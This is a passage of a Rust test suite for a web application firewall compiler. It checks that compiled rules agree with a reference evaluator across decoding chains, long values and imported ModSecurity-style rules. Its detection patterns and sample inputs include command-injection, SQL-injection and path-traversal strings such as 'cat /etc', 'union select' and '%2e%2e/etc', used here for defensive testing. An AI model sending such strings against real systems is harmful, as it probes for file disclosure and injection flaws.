        "edgepack 1\nregion \"r\" zone=\"GLOBAL\"\n\
         waf threshold=1 body-limit=\"64KiB\" automaton-budget=\"{budget_kib}KiB\" {{\n\
         rule \"folded\" score=1 {{ in \"args\"; decode \"url-decode\" \"lowercase\"; regex #\"{pattern}\"#; }}\n\
         rule \"raw\" score=1 {{ in \"body\"; regex #\"{pattern}\"#; }}\n\
         }}\nroute \"/*\" {{\n    respond 200\n}}\n"
    );
    let dir = tempdir();
    std::fs::write(dir.join("edgepack.kdl"), &kdl).expect("write policy");
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut texts: Vec<Vec<u8>> = texts.iter().map(|t| t.as_bytes().to_vec()).collect();
    // Each text after and before runs of one byte, long enough for the head to pass over
    // 16 bytes at a time in its loop state, the text at every offset around those blocks.
    for text in texts.clone() {
        for filler in [" ", "a", "-", "."] {
            for run in [1, 15, 16, 17, 31, 33, 47, 64, 100] {
                let around = [filler.repeat(run), filler.repeat(run % 7 + 13)];
                texts.push([around[0].as_bytes(), &text, around[1].as_bytes()].concat());
            }
        }
    }
    for _ in 0..400 {
        let mut text = Vec::new();
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        for _ in 0..(seed >> 60) {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            text.extend_from_slice(tokens[(seed >> 33) as usize % tokens.len()].as_bytes());
        }
        texts.push(text);
    }
    for tier in [Tier::Quick, Tier::Optimized] {
        let mut regions =
            compile_policy(&dir, &engine, tier).expect("the sequence policy compiles");
        let (plan, instance) = &mut regions[0];
        let evaluator = Evaluator::new(plan);
        let mut fired = [0; 2];
        for text in &texts {
            let query: String = text.iter().map(|b| format!("%{b:02X}")).collect();
            let request = Request::new("POST", &format!("/x?q={query}"))
                .header("content-type", "application/octet-stream")
                .body(text.clone());
            compare(plan, &evaluator, instance, &request).unwrap_or_else(|e| panic!("{e}"));
            let decision = instance.decide(&request).expect("a decision");
            for (k, rule) in plan.waf.as_ref().expect("waf").rules.iter().enumerate() {
                fired[k] += usize::from(decision.rules.contains(&rule.id));
            }
        }
        // Both rules see matches, and folding makes the first match more.
        assert!(fired[1] >= 5, "{fired:?}");
        assert!(fired[0] > fired[1], "{fired:?}");
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// Rules whose decoding chains differ only in steps that change nothing on many values (as
/// the CRS's do): the module skips such leading steps and lets chains that come to the same
/// decodings share one decoded copy. Values with and without each step's markers, in every
/// order, must give the reference evaluator's decisions.
#[test]
fn chains_sharing_decoded_values_agree() {
    let engine = PolicyEngine::new().expect("engine");
    let chains = [
        r#""url-decode-uni" "cmd-line""#,
        r#""url-decode-uni" "cmd-line" "lowercase""#,
        r#""remove-nulls" "cmd-line""#,
        r#""url-decode-uni" "cmd-line" "normalize-path" "lowercase""#,
        r#""url-decode-uni" "html-entity-decode" "lowercase""#,
        r#""html-entity-decode" "url-decode-uni""#,
        r#""lowercase" "url-decode-uni""#,
        r#""url-decode" "compress-whitespace""#,
        r#""remove-nulls""#,
        r#""url-decode-uni" "normalize-path""#,
        r#""utf8-url-decode-uni""#,
    ];
    let patterns = [
        r"cat\s*/etc",
        r"(?i)AB&c",
        r"x y",
        r"/a/b",
        "<s>",
        r"\x00q",
        r"%41",
        "ls;",
        // Only after `cmd-line` drops the space before `/` or `(`.
        "cat/etc",
        r"ls\(",
        // A relative path only until `normalize-path` resolves it: a leading `.` in the URL
        // decoding's output marks it (`%2e%2e/etc`).
        r"^\.\.?/",
        // `é` as `utf8-url-decode-uni` reads it (%u00E9), not as `url-decode-uni` leaves it.
        r"(?-u:\xE9)",
    ];
    // A rule decoding every step, after a rule whose chain is its last step: the group of
    // that chain comes first, yet a value it decodes must still be matched as received
    // (`\w%\w` has no literal for the prefilter: it runs on every value of its groups).
    let mut rules = String::from(
        "rule \"url-first\" score=1 { in \"args\"; decode \"url-decode-uni\"; regex #\"\\d\\w\\d\"#; }\n\
         rule \"every-step\" score=1 { in \"args\"; decode \"url-decode-uni\" every-step=#true; regex #\"\\w%\\w\"#; }\n",
    );
    for (i, chain) in chains.iter().enumerate() {
        for (j, pattern) in patterns.iter().enumerate() {
            rules.push_str(&format!(
                "rule \"c{i}p{j}\" score=1 {{ in \"args\"; decode {chain}; regex #\"{pattern}\"#; }}\n"
            ));
        }
    }
    let dir = rules_policy(&rules);
    let tokens = [
        "cat", " ", "/etc", "'", "\\", "^", "%2f", "%00", "\0", "AB", "&amp;", "&", "c", "x", "y",
        "  ", "\t", "/a//b", "/./", "<s>", "%3Cs%3E", "q", "%2541", "ls", ";", "%u0041", "(", "é",
    ];
    let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
    // Words between single spaces, which `cmd-line` leaves as they are but for a space
    // before `/` or `(`.
    let mut values: Vec<String> = [
        "cat /etc",
        "ls (x)",
        "x cat /etc y",
        "cat etc",
        "%2e%2e/etc",
        "%2e/x",
    ]
    .map(String::from)
    .to_vec();
    for _ in 0..600 {
        let mut value = String::new();
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        for _ in 0..(seed >> 60) {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            value.push_str(tokens[(seed >> 33) as usize % tokens.len()]);
        }
        values.push(value);
    }
    for tier in [Tier::Quick, Tier::Optimized] {
        let mut regions = compile_policy(&dir, &engine, tier).expect("the chain policy compiles");
        let (plan, instance) = &mut regions[0];
        let evaluator = Evaluator::new(plan);
        let mut fired = 0;
        for pair in values.chunks(2) {
            // Two arguments a request: the second value's scan starts from a clean slate.
            let query: Vec<String> = pair
                .iter()
                .map(|v| {
                    let encoded: String = v.bytes().map(|b| format!("%{b:02X}")).collect();
                    format!("a={encoded}")
                })
                .collect();
            let request = Request::new("GET", &format!("/x?{}", query.join("&")));
            compare(plan, &evaluator, instance, &request).unwrap_or_else(|e| panic!("{e}"));
            fired += instance.decide(&request).expect("a decision").rules.len();
        }
        // The values reach the patterns through the chains: a test that fires nothing
        // would not reach the shared copies.
        assert!(fired > 200, "{fired} rules fired");
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// The prefilter reads a long value as two halves or four quarters at once, each walk after
/// the first from a little before its part: a literal at any offset around those borders, or
/// split across one, is found as in a single pass (the module agrees with the evaluator, and
/// the rules fire).
#[test]
fn literals_anywhere_in_long_values_agree() {
    let engine = PolicyEngine::new().expect("engine");
    let patterns = [
        r"union\s+select",
        r"(?i)xlink:href",
        "q",
        r"12345678",
        r"ab\(",
        r"(?m:^)\s*(?:cat|ls)\b",
    ];
    let mut rules = String::new();
    for (i, pattern) in patterns.iter().enumerate() {
        rules.push_str(&format!(
            "rule \"p{i}\" score=1 {{ in \"args\"; regex #\"{pattern}\"#; }}\n"
        ));
    }
    let dir = rules_policy(&rules);
    let needles = [
        "union select",
        "XLINK:HREF",
        "q",
        "12345678",
        "ab(",
        "\ncat x",
    ];
    for tier in [Tier::Quick, Tier::Optimized] {
        let mut regions = compile_policy(&dir, &engine, tier).expect("the policy compiles");
        let (plan, instance) = &mut regions[0];
        let evaluator = Evaluator::new(plan);
        let mut fired = 0;
        let mut requests = 0;
        // Around the thresholds for two and four walks (longest literal 8 bytes), and longer.
        for len in [70, 77, 78, 79, 80, 101, 148, 149, 150, 151, 333, 1024, 1027] {
            for needle in needles {
                let borders = [len / 4, len / 2, 3 * len / 4];
                let offsets = (0..len - needle.len()).filter(|at| {
                    borders.iter().any(|b| at.abs_diff(b + 4) <= 14)
                        || *at < 3
                        || at + needle.len() + 3 > len
                });
                for at in offsets {
                    let mut value = "w".repeat(len);
                    value.replace_range(at..at + needle.len(), needle);
                    let encoded: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
                    let request = Request::new("GET", &format!("/x?a={encoded}"));
                    compare(plan, &evaluator, instance, &request).unwrap_or_else(|e| panic!("{e}"));
                    fired += instance.decide(&request).expect("a decision").rules.len();
                    requests += 1;
                }
            }
        }
        // Each value holds one needle, and each needle fires its rule.
        assert_eq!(
            fired, requests,
            "{fired} rules fired in {requests} requests"
        );
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// A DFA walk passes over 16 bytes at a time while it stays in a state few bytes leave:
/// an exit byte at any offset, around and across those blocks, in the plain and the
/// lower-cased walk, is still seen where the reference evaluator sees it.
#[test]
fn loop_state_skips_agree() {
    let engine = PolicyEngine::new().expect("engine");
    let rules = [
        // Leaves its loop on `#` and whitespace; fires when `#` comes first.
        r##"rule "hash-first" score=1 { in "args"; regex #"^[^#\s]*#"#; }"##,
        // Read lower-cased: leaves on `x` (an `X` in the text); fires on a value without.
        r##"rule "no-x" score=1 { in "args"; decode "lowercase"; regex #"^[^x]*$"#; }"##,
    ]
    .join("\n");
    let dir = rules_policy(&format!("{rules}\n"));
    for tier in [Tier::Quick, Tier::Optimized] {
        let mut regions = compile_policy(&dir, &engine, tier).expect("the policy compiles");
        let (plan, instance) = &mut regions[0];
        let evaluator = Evaluator::new(plan);
        for len in [15, 16, 17, 18, 32, 33, 34, 49, 100] {
            for at in 0..len {
                // How many of the two rules fire with this byte at `at` among `w`s.
                for (exit, fires) in [("#", 2), (" ", 1), ("X", 0)] {
                    let mut value = "w".repeat(len);
                    value.replace_range(at..at + 1, exit);
                    let encoded: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
                    let request = Request::new("GET", &format!("/x?a={encoded}"));
                    compare(plan, &evaluator, instance, &request).unwrap_or_else(|e| panic!("{e}"));
                    let decision = instance.decide(&request).expect("a decision");
                    assert_eq!(decision.rules.len(), fires, "{value:?}");
                }
            }
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// With hundreds of literals, parts few rules read (method, a header, path, URI, request
/// line) get prefilters of their own while the arguments share the large one: each part
/// still finds exactly its own rules' literals, in either direction (a literal of an
/// argument rule in a header fires nothing; the same literal in the query fires the
/// argument rule and the URI rule that looks for it too).
#[test]
fn parts_with_prefilters_of_their_own_agree() {
    let engine = PolicyEngine::new().expect("engine");
    let mut rules = String::new();
    for i in 0..300 {
        rules.push_str(&format!(
            "rule \"a{i}\" score=1 {{ in \"args\"; regex #\"k{i}z\"#; }}\n"
        ));
    }
    for (name, part, pattern) in [
        ("m", "method", "^PU"),
        ("h", "header:x-a", "evil"),
        ("p", "path", "adm[io]n"),
        ("u", "uri", "k7z"),
        ("l", "request-line", "(?i)http/1\\.0"),
    ] {
        rules.push_str(&format!(
            "rule \"{name}\" score=1 {{ in \"{part}\"; regex #\"{pattern}\"#; }}\n"
        ));
    }
    let dir = rules_policy(&rules);
    for tier in [Tier::Quick, Tier::Optimized] {
        let mut regions = compile_policy(&dir, &engine, tier).expect("the policy compiles");
        let (plan, instance) = &mut regions[0];
        let evaluator = Evaluator::new(plan);
        let names = |rules: &[u32]| -> Vec<String> {
            let waf = plan.waf.as_ref().expect("a WAF");
            let mut names: Vec<String> = rules
                .iter()
                .map(|id| {
                    waf.rules
                        .iter()
                        .find(|r| r.id == *id)
                        .expect("a rule")
                        .name
                        .clone()
                })
                .collect();
            names.sort();
            names
        };
        let long = "w".repeat(600);
        let cases: Vec<(Request, Vec<&str>)> = vec![
            (Request::new("GET", "/x?q=k7z"), vec!["a7", "u"]),
            (
                Request::new("GET", &format!("/x?q={long}k299z{long}")),
                vec!["a299"],
            ),
            (
                Request::new("GET", "/x?q=evil").header("x-a", "k5z"),
                vec![],
            ),
            (
                Request::new("GET", "/x").header("x-a", "an evil one"),
                vec!["h"],
            ),
            (Request::new("PUT", "/admin?q=PUT"), vec!["m", "p"]),
            (
                Request::new("GET", "/x?q=admin+k12z+k13z"),
                vec!["a12", "a13"],
            ),
            (
                Request {
                    protocol: "HTTP/1.0".to_string(),
                    ..Request::new("GET", "/k7z")
                },
                vec!["l", "u"],
            ),
        ];
        for (request, expected) in cases {
            compare(plan, &evaluator, instance, &request).unwrap_or_else(|e| panic!("{e}"));
            let fired = instance.decide(&request).expect("a decision").rules;
            assert_eq!(names(&fired), expected, "{request:?}");
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// Imported rules that are more than "a value matches" (a negated operator, a count of
/// values, a chain of two conditions, a link on the values the link before it matched or
/// stored) and one on the method: the module and the evaluator agree on targeted and random
/// requests, and each fires exactly when ModSecurity's would.
#[test]
fn compound_imported_rules_agree_and_fire_as_modsecurity_would() {
    let engine = PolicyEngine::new().expect("engine");
    let case = edgepack_tests::workspace_root().join("tests/cases/import/rule-set");
    let mut regions = compile_policy(&case, &engine, Tier::Optimized).expect("the case compiles");
    let (plan, instance) = &mut regions[0];
    let evaluator = Evaluator::new(plan);
    let id = |name: &str| {
        plan.waf
            .as_ref()
            .and_then(|w| w.rules.iter().find(|r| r.name == name))
            .map(|r| r.id)
            .expect("an imported rule")
    };
    let (negated, counted, chained) = (id("900140"), id("900150"), id("900160"));
    let (method, same_value, restricted) = (id("900110"), id("900180"), id("900190"));
    let every_step = id("900170");
    let targeted: Vec<(Request, Vec<u32>)> = vec![
        (
            Request::new("GET", "/x").header("content-length", "12"),
            vec![],
        ),
        (
            Request::new("GET", "/x").header("content-length", "12a"),
            vec![negated],
        ),
        (
            Request::new("GET", "/x").header("x-forwarded-host", "a"),
            vec![],
        ),
        (
            Request::new("GET", "/x")
                .header("x-forwarded-host", "a")
                .header("x-forwarded-host", "b"),
            vec![counted],
        ),
        (Request::new("GET", "/x?q=foo"), vec![]),
        (
            Request::new("GET", "/x?q=foo").header("user-agent", "a bar"),
            vec![chained],
        ),
        (
            Request::new("GET", "/x").header("user-agent", "a bar"),
            vec![],
        ),
        (Request::new("TRACE", "/x"), vec![method]),
        // `multiMatch`: the value as it is matches, its decoded forms do not.
        (Request::new("GET", "/x?q=a%2541"), vec![every_step]),
        (Request::new("GET", "/x?q=aA"), vec![]),
        // `MATCHED_VARS`: a word of each list in one value, in either order or overlapping.
        (Request::new("GET", "/x?q=alpha+gamma"), vec![same_value]),
        (Request::new("GET", "/x?q=GAMMA:BETA"), vec![same_value]),
        (Request::new("GET", "/x?q=gammalpha"), vec![same_value]),
        (Request::new("GET", "/x?q=betabc"), vec![same_value]),
        (Request::new("GET", "/x?q=alpha&r=gamma"), vec![]),
        (Request::new("GET", "/x?q=alpha"), vec![]),
        // A header name inside the restricted list's slashes.
        (
            Request::new("GET", "/x").header("proxy", "a"),
            vec![restricted],
        ),
        (
            Request::new("GET", "/x").header("Lock-Token", "a"),
            vec![restricted],
        ),
        (Request::new("GET", "/x").header("x-proxy", "a"), vec![]),
        (Request::new("GET", "/x").header("lock", "a"), vec![]),
    ];
    for (request, fired) in &targeted {
        compare(plan, &evaluator, instance, request).unwrap_or_else(|e| panic!("{e}"));
        let decision = instance.decide(request).expect("a decision");
        assert_eq!(&decision.rules, fired, "{request:?}");
    }
    let name = case.display().to_string();
    run_policy(&name, &mut regions, cases(200));
}
